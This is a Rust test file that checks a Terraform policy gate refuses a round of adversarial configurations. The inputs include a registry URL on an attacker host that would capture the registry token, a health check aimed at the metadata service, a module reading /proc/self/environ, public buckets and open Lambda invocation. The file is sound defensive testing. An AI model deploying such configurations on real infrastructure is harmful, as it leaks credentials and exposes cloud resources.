//! A fifth round of attacks by a tester who saw the code: outputs that send
//! the registry token or the health check elsewhere, modules (whose
//! variables and counts the gate cannot bound), the app's role hidden in
//! `one()`, container definitions read only in part, a kubernetes provider
//! left to the worker's own cluster, resources in the default VPC, what
//! keeps a destroy from ever succeeding, storage priced per IOPS, fleets of
//! load balancers, public objects and service-account tokens.

use super::*;

const OWN_PROVIDER: &str = "provider \"kubernetes\" {\n  host                   = aws_eks_cluster.main.endpoint\n  cluster_ca_certificate = base64decode(aws_eks_cluster.main.certificate_authority[0].data)\n  token                  = data.aws_eks_cluster_auth.main.token\n}\n";

fn task_definition(definitions: &str, extra: &str) -> String {
    format!(
        "resource \"aws_ecs_task_definition\" \"app\" {{\n  family                = \"x\"\n  task_role_arn         = aws_iam_role.task.arn\n  container_definitions = {definitions}\n}}\n{extra}"
    )
}

fn load_balancer_service(name: &str) -> String {
    format!(
        "resource \"kubernetes_service_v1\" \"{name}\" {{\n  metadata {{\n    name      = \"{name}\"\n    namespace = kubernetes_namespace_v1.app.metadata[0].name\n  }}\n  spec {{\n    type = \"LoadBalancer\"\n    port {{\n      port        = 8080\n      target_port = 8080\n    }}\n  }}\n}}\n"
    )
}

#[test]
fn a_fifth_round_of_attacks_is_refused() {
    let vm = vm_policy();
    let container_service = Policy::for_choice(&choice(Target::ContainerService));
    let serverless = Policy::for_choice(&choice(Target::Serverless));
    let kubernetes = Policy::for_choice(&choice(Target::Kubernetes));
    let own_image = "{ name = \"app\", image = \"${aws_ecr_repository.app.repository_url}:1\", logConfiguration = { logDriver = \"awslogs\", options = { awslogs-group = aws_cloudwatch_log_group.app.name } } }";
    assert_each_refused(vec![
        (
            "the registry output naming another host, which would get the account's registry token at docker login",
            "output \"ecr_repository_url\" {\n  value = \"registry.attacker.example/${aws_ecr_repository.app.name}\"\n}\n".to_owned(),
            &[Rule::ForeignResource],
            &serverless,
        ),
        (
            "the app URL pointing the worker's health check at the metadata service",
            BASE.replace(
                "value = \"http://${aws_eip.app.public_ip}:8080\"",
                "value = \"http://169.254.169.254/latest/meta-data/#${aws_eip.app.public_ip}\"",
            ),
            &[Rule::ForeignResource],
            &vm,
        ),
        (
            "the app URL's host taken from a tag the author sets",
            BASE.replace(
                "value = \"http://${aws_eip.app.public_ip}:8080\"",
                "value = \"http://${aws_eip.app.tags.host}:8080\"",
            ),
            &[Rule::ForeignResource],
            &vm,
        ),
        (
            "a local module, inside which var.bundle_path is whatever the call passes",
            "module \"bootstrap\" {\n  source      = \"./modules/bootstrap\"\n  bundle_path = \"/proc/self/environ\"\n}\n".to_owned(),
            &[Rule::ModuleSource],
            &vm,
        ),
        (
            "the role the app runs as hidden in one()",
            task_definition(&format!("jsonencode([{own_image}])"), "")
                .replace("aws_iam_role.task.arn", "one([aws_iam_role.execution.arn])"),
            &[Rule::ForeignResource],
            &container_service,
        ),
        (
            "a container read through an attribute of a local",
            task_definition(
                "jsonencode([local.containers.app])",
                "locals {\n  containers = { app = { name = \"app\", image = \"payments-api:latest\" } }\n}\n",
            ),
            &[Rule::ForeignResource],
            &container_service,
        ),
        (
            "a container's image overridden by jsondecode of a string",
            task_definition(
                &format!("jsonencode([merge({own_image}, jsondecode(\"{{\\\"image\\\": \\\"billing:prod\\\"}}\"))])"),
                "",
            ),
            &[Rule::ForeignResource],
            &container_service,
        ),
        (
            "a kubernetes provider left to the worker's own kubeconfig",
            "provider \"kubernetes\" {}\n".to_owned(),
            &[Rule::ProviderArgument],
            &kubernetes,
        ),
        (
            "an instance in the default VPC's default security group",
            "resource \"aws_instance\" \"x\" {\n  ami           = data.aws_ami.ubuntu.id\n  instance_type = \"t2.small\"\n  metadata_options {\n    http_tokens                 = \"required\"\n    http_put_response_hop_limit = 1\n  }\n}\n".to_owned(),
            &[Rule::ForeignResource],
            &vm,
        ),
        (
            "a final snapshot with no name, which makes every destroy fail",
            "resource \"aws_db_instance\" \"x\" {\n  engine_lifecycle_support = \"open-source-rds-extended-support-disabled\"\n  identifier_prefix      = \"x-\"\n  instance_class         = \"db.t4g.micro\"\n  allocated_storage      = 20\n  storage_encrypted      = true\n  db_subnet_group_name   = aws_db_subnet_group.x.name\n  vpc_security_group_ids = [aws_security_group.x.id]\n  skip_final_snapshot    = false\n}\n".to_owned(),
            &[Rule::Lifecycle],
            &container_service,
        ),
        (
            "Object Lock written as the nested block",
            "resource \"aws_s3_bucket\" \"x\" {\n  bucket_prefix = \"x-\"\n  force_destroy = true\n  object_lock_configuration {\n    object_lock_enabled = \"Enabled\"\n  }\n}\n".to_owned(),
            &[Rule::Lifecycle],
            &vm,
        ),
        (
            "an image repository that refuses to go while it holds the app's image",
            "resource \"aws_ecr_repository\" \"app\" {\n  name = \"x\"\n}\n".to_owned(),
            &[Rule::Lifecycle],
            &container_service,
        ),
        (
            "a database on provisioned IOPS in two zones",
            "resource \"aws_db_instance\" \"x\" {\n  engine_lifecycle_support = \"open-source-rds-extended-support-disabled\"\n  identifier_prefix      = \"x-\"\n  instance_class         = \"db.t4g.micro\"\n  allocated_storage      = 20\n  storage_encrypted      = true\n  storage_type           = \"io1\"\n  multi_az               = true\n  db_subnet_group_name   = aws_db_subnet_group.x.name\n  vpc_security_group_ids = [aws_security_group.x.id]\n  skip_final_snapshot    = true\n}\n".to_owned(),
            &[Rule::SizeNotBounded],
            &container_service,
        ),
        (
            "a rollout allowed to start a hundred times the tasks",
            "resource \"aws_ecs_service\" \"x\" {\n  name                       = \"x\"\n  cluster                    = aws_ecs_cluster.main.id\n  task_definition            = aws_ecs_task_definition.app.arn\n  desired_count              = 2\n  deployment_maximum_percent = 10000\n}\n".to_owned(),
            &[Rule::SizeNotBounded],
            &container_service,
        ),
        (
            "load balancers made as Services, three of them",
            format!(
                "{OWN_PROVIDER}{}{}{}",
                load_balancer_service("a"),
                load_balancer_service("b"),
                load_balancer_service("c")
            ),
            &[Rule::SizeNotBounded],
            &kubernetes,
        ),
        (
            "the bundle object made public",
            "resource \"aws_s3_object\" \"bundle\" {\n  bucket = aws_s3_bucket.bundle.id\n  key    = \"bundle.tar.gz\"\n  acl    = \"public-read\"\n}\n".to_owned(),
            &[Rule::WorldIngress],
            &vm,
        ),
        (
            "the bucket's public access left open",
            "resource \"aws_s3_bucket_public_access_block\" \"x\" {\n  bucket                  = aws_s3_bucket.bundle.id\n  block_public_acls       = false\n  block_public_policy     = true\n  ignore_public_acls      = true\n  restrict_public_buckets = true\n}\n".to_owned(),
            &[Rule::WorldIngress],
            &vm,
        ),
        (
            "direct invocation by every account, its URL condition set to null",
            "resource \"aws_lambda_permission\" \"x\" {\n  statement_id           = \"x\"\n  action                 = \"lambda:InvokeFunctionUrl\"\n  function_name          = aws_lambda_function.app.function_name\n  principal              = \"*\"\n  function_url_auth_type = null\n}\n".to_owned(),
            &[Rule::IamPrincipal],
            &serverless,
        ),
        (
            "the account's existing certificate named by an ARN built around its id",
            "resource \"aws_lb_listener\" \"tls\" {\n  load_balancer_arn = aws_lb.app.arn\n  port              = 8080\n  certificate_arn   = \"arn:${data.aws_partition.current.partition}:acm:ca-central-1:${data.aws_caller_identity.current.account_id}:certificate/3f2b\"\n}\n".to_owned(),
            &[Rule::ForeignResource],
            &container_service,
        ),
        (
            "a literal written as the gate's own marker for an own bucket",
            "data \"aws_iam_policy_document\" \"x\" {\n  statement {\n    actions   = [\"s3:GetObject\"]\n    resources = [\"$${own_parent}/*\"]\n  }\n}\n".to_owned(),
            &[Rule::IamAction],
            &vm,
        ),
        (
            "a service-account token Secret the pod could mount",
            format!(
                "{OWN_PROVIDER}resource \"kubernetes_secret_v1\" \"token\" {{\n  metadata {{\n    name      = \"token\"\n    namespace = kubernetes_namespace_v1.app.metadata[0].name\n  }}\n  type = \"kubernetes.io/service-account-token\"\n}}\n"
            ),
            &[Rule::PodPrivilege],
            &kubernetes,
        ),
    ]);
    // What the templates write still passes.
    for (extra, policy) in [
        (
            "output \"ecr_repository_url\" {\n  value = aws_ecr_repository.app.repository_url\n}\n".to_owned(),
            &serverless,
        ),
        (
            "resource \"aws_ecr_repository\" \"app\" {\n  name         = \"x\"\n  force_delete = true\n}\n".to_owned(),
            &container_service,
        ),
        (
            task_definition(&format!("jsonencode([{own_image}])"), ""),
            &container_service,
        ),
        (
            format!("{OWN_PROVIDER}{}", load_balancer_service("a")),
            &kubernetes,
        ),
    ] {
        assert_passes(&extra, policy);
    }
}
